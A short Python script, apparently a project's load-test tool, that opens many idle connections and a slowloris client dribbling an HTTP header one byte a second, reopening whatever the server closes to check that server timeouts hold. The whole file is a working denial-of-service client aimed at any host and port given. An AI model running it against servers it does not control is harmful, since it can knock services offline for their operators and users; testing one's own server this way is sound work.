#!/usr/bin/env python3
"""Holds idle connections and a slowloris client against a server, reopening what it closes.

    python3 Scripts/load/attacker.py HOST PORT IDLE SECONDS

IDLE connections are opened and never send a byte; one more sends a request head one byte a
second and never finishes it. Whatever the server closes is opened again at once, so that the
server always faces IDLE + 1 such clients. At the end it prints how many connections the server
closed (each one is a deadline that held).
"""
import selectors
import socket
import sys
import time

host, port, idle, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
selector = selectors.DefaultSelector()
closed = 0
slow_head = b"POST /events HTTP/1.1\r\nHost: localhost\r\nX-Slow: " + b"a" * 100000


def open_connection(kind):
    connection = socket.create_connection((host, port))
    connection.setblocking(False)
    selector.register(connection, selectors.EVENT_READ, {"kind": kind, "sent": 0})
    return connection


connections = [open_connection("idle") for _ in range(idle)]
slow = open_connection("slow")
end = time.monotonic() + seconds
next_byte = time.monotonic()
while time.monotonic() < end:
    for key, _ in selector.select(timeout=0.1):
        try:
            data = key.fileobj.recv(65536)
        except OSError:
            data = b""
        if data:
            continue
        kind = key.data["kind"]
        selector.unregister(key.fileobj)
        key.fileobj.close()
        closed += 1
        replacement = open_connection(kind)
        if kind == "slow":
            slow = replacement
    if time.monotonic() >= next_byte:
        state = selector.get_key(slow).data
        try:
            slow.send(slow_head[state["sent"]:state["sent"] + 1])
            state["sent"] += 1
        except OSError:
            pass
        next_byte += 1.0
print(f"attacker: {idle} idle connections and 1 slowloris for {seconds:.0f} s; the server closed {closed}", flush=True)
